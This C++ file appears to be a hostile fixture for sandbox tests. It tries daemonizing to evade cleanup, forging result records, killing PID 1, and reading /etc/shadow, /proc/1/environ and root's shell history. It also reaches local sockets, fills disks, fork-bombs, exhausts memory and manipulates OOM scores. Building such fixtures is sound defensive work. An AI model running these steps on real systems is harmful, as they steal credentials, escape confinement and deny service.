// A hostile C++ program for tests/executor/test_language_attacks.py: the first line of
// its stdin names an attack (and its arguments); see that module for what must come of it.
// Prints PWNED only where an attack worked, or (daemon) where the test itself is accepted.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <netdb.h>

#include <chrono>
#include <cstring>
#include <fstream>
#include <iostream>
#include <iterator>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

static const char *MARKERS[] = {"/tmp/cobalt-daemon", "/dev/shm/cobalt-daemon", "cobalt-daemon"};
static const char *RECORD = "00000000000000000000000000000000 {\"status\": \"done\"}\n";

static std::string slurp(const std::string &path) {
    std::ifstream in(path, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(in), {});
}

static void linger() {  // a daemon: ignores what it can, leaves marks for 20 s
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    signal(SIGINT, SIG_IGN);
    setsid();
    setpgid(0, 0);
    for (int i = 0; i < 4000; i++) {
        for (const char *m : MARKERS) close(open(m, O_CREAT | O_WRONLY, 0644));
        usleep(5000);
    }
    _exit(0);
}

static int daemon_mode() {
    std::thread([] { linger(); }).detach();  // a thread dies with its process
    if (fork() == 0) {  // double fork, the classic daemon
        setsid();
        if (fork() == 0) linger();
        _exit(0);
    }
    if (fork() == 0) {  // daemon(3): its own fork, setsid and /dev/null
        if (daemon(1, 1) == 0 || true) linger();
    }
    if (fork() == 0) linger();  // a plain child, in our process group
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    std::cout << "PWNED" << std::endl;
    return 0;
}

static int forge_mode() {
    for (int fd = 3; fd < 64; fd++) (void)!write(fd, RECORD, strlen(RECORD));
    for (const char *dir : {"/proc/self/fd", "/proc/1/fd"}) {
        for (int fd = 0; fd < 64; fd++) {
            if (fd < 3 && !strcmp(dir, "/proc/self/fd")) continue;
            std::string path = std::string(dir) + "/" + std::to_string(fd);
            int out = open(path.c_str(), O_WRONLY | O_NONBLOCK);
            if (out >= 0) { (void)!write(out, RECORD, strlen(RECORD)); close(out); }
        }
    }
    for (const char *name : {"record", "result.json", "/tmp/record", "/dev/shm/record"}) {
        std::ofstream(name) << RECORD;
    }
    for (int sig : {SIGKILL, SIGSTOP, SIGTERM, SIGINT, SIGSEGV}) kill(1, sig);
    std::cerr << RECORD;
    std::cout << RECORD << "not the answer" << std::endl;
    return 0;
}

static bool reach(int family, int type, const sockaddr *addr, socklen_t len) {
    int fd = socket(family, type, 0);
    if (fd < 0) return false;
    bool won = connect(fd, addr, len) == 0 && send(fd, "PWNED", 5, 0) == 5;
    close(fd);
    return won;
}

static int escape_mode(std::istringstream &args) {
    std::string secret, unix_path, abstract;
    int tcp = 0, udp = 0;
    args >> secret >> tcp >> udp >> unix_path >> abstract;
    std::string seen;
    for (const std::string &path : std::vector<std::string>{
             secret, "/proc/1/root" + secret, "/proc/self/root" + secret, "/etc/shadow",
             "/etc/passwd", "/proc/1/environ", "/root/.bash_history"}) {
        seen += slurp(path);
    }
    bool won = !seen.empty();
    for (const std::string &path : std::vector<std::string>{
             "/cobalt-escape", "/usr/cobalt-escape", "/usr/lib/cobalt-escape", "/dev/cobalt-escape",
             "/proc/1/root/cobalt-escape", secret + "-written", "/proc/1/cwd/cobalt-escape"}) {
        int fd = open(path.c_str(), O_CREAT | O_WRONLY, 0644);
        if (fd >= 0) { won = true; close(fd); }
    }
    sockaddr_in in{};
    in.sin_family = AF_INET;
    in.sin_port = htons(tcp);
    inet_pton(AF_INET, "127.0.0.1", &in.sin_addr);
    won |= reach(AF_INET, SOCK_STREAM, (sockaddr *)&in, sizeof in);
    in.sin_port = htons(udp);
    won |= reach(AF_INET, SOCK_DGRAM, (sockaddr *)&in, sizeof in);
    sockaddr_un un{};
    un.sun_family = AF_UNIX;
    strncpy(un.sun_path, unix_path.c_str(), sizeof un.sun_path - 1);
    won |= reach(AF_UNIX, SOCK_STREAM, (sockaddr *)&un, sizeof un);
    sockaddr_un ab{};
    ab.sun_family = AF_UNIX;
    strncpy(ab.sun_path + 1, abstract.c_str(), sizeof ab.sun_path - 2);
    won |= reach(AF_UNIX, SOCK_STREAM, (sockaddr *)&ab,
                 offsetof(sockaddr_un, sun_path) + 1 + abstract.size());
    addrinfo *found = nullptr;
    won |= getaddrinfo("example.com", "80", nullptr, &found) == 0;
    chmod("/tmp", 0);
    chmod(".", 0);
    std::cout << seen << (won ? "PWNED" : "held") << std::endl;
    return 0;
}

static void write_file(const std::string &path, const std::string &text) {
    std::ofstream(path) << text;
}

static std::string find_planted(const std::string &top, int depth) {
    std::string found;
    DIR *dir = opendir(top.c_str());
    if (!dir) return found;
    while (dirent *entry = readdir(dir)) {
        std::string name = entry->d_name;
        if (name == "." || name == "..") continue;
        std::string path = top + "/" + name;
        if (name.rfind("planted", 0) == 0) found += slurp(path);
        if (depth > 0) found += find_planted(path, depth - 1);
    }
    closedir(dir);
    return found;
}

static int fill_mode() {
    std::string chunk(1 << 20, 'x');
    for (const char *dir : {"/tmp", "/dev/shm", "."}) {
        for (int n = 0; n < 100; n++) {
            std::ofstream out(std::string(dir) + "/fill-" + std::to_string(n));
            if (!(out << chunk) || !out.flush()) break;
        }
        for (int n = 0; n < 3000; n++) {
            int fd = open((std::string(dir) + "/inode-" + std::to_string(n)).c_str(),
                          O_CREAT | O_WRONLY, 0);
            if (fd < 0) break;
            close(fd);
        }
        chmod(dir, 0);
    }
    std::cout << "filled" << std::endl;
    return 0;
}

static void fill_socket_buffers() {
    std::vector<char> chunk(1 << 16, 'x');
    int pair[2];
    while (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0) {
        fcntl(pair[0], F_SETFL, O_NONBLOCK);
        while (send(pair[0], chunk.data(), chunk.size(), 0) > 0) {}
    }
}

int main(int argc, char **argv) {
    if (argc > 1 && !strcmp(argv[1], "child")) linger();
    std::string line;
    std::getline(std::cin, line);
    std::istringstream args(line);
    std::string mode;
    args >> mode;
    if (mode == "echo") {  // echo exit N | echo signal N, then the rest of stdin verbatim
        std::string how;
        int n = 0;
        args >> how >> n;
        std::string rest(std::istreambuf_iterator<char>(std::cin), {});
        std::cout << rest << std::flush;
        if (how == "signal") raise(n);
        return n;
    }
    if (mode == "daemon") return daemon_mode();
    if (mode == "forge") return forge_mode();
    if (mode == "escape") return escape_mode(args);
    if (mode == "fill") return fill_mode();
    if (mode == "plant") {
        std::string secret;
        args >> secret;
        for (const char *path : {"/tmp/planted", "/dev/shm/planted", "planted"}) {
            write_file(path, secret);
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(1500));
        std::cout << "planted" << std::endl;
        return 0;
    }
    if (mode == "seek") {
        std::this_thread::sleep_for(std::chrono::milliseconds(500));
        std::cout << find_planted("/tmp", 2) << find_planted("/dev/shm", 1)
                  << find_planted("/proc", 3) << "sought" << std::endl;
        return 0;
    }
    if (mode == "threads") {  // threads that each hold memory, without end
        for (;;) {
            std::thread([] {
                std::vector<char> held(1 << 20, 1);
                std::this_thread::sleep_for(std::chrono::hours(1));
            }).detach();
        }
    }
    if (mode == "heap") {
        std::vector<std::vector<char>> held;
        for (;;) held.emplace_back(1 << 20, 1);
    }
    if (mode == "native") {
        for (;;) {
            void *p = mmap(nullptr, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (p == MAP_FAILED) abort();
            memset(p, 1, 1 << 20);
        }
    }
    if (mode == "oom") {
        // Back to the jail's init's OOM score (allowed: its lower bound is the init's),
        // then kernel memory no process's size shows (socket buffers), in 16 small
        // processes: at the slot cgroup's limit the biggest process left is the init.
        std::ofstream("/proc/self/oom_score_adj") << "0";
        for (int i = 0; i < 15; i++) {
            if (fork() == 0) { fill_socket_buffers(); pause(); }
        }
        fill_socket_buffers();
        std::cout << "survived" << std::endl;
        pause();
    }
    if (mode == "fork") {
        for (;;) if (fork() == 0) pause();
    }
    return 4;
}
